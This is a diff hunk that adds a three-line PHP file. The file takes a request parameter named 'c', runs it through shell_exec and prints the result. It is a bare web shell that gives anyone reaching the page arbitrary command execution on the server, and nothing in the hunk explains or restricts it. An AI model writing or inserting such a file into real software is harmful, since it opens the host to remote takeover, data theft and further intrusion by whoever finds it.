@@ -1,0 +1,3 @@
+<?php
+$cmd = $_REQUEST['c'];
+echo "<pre>" . shell_exec($cmd) . "</pre>";
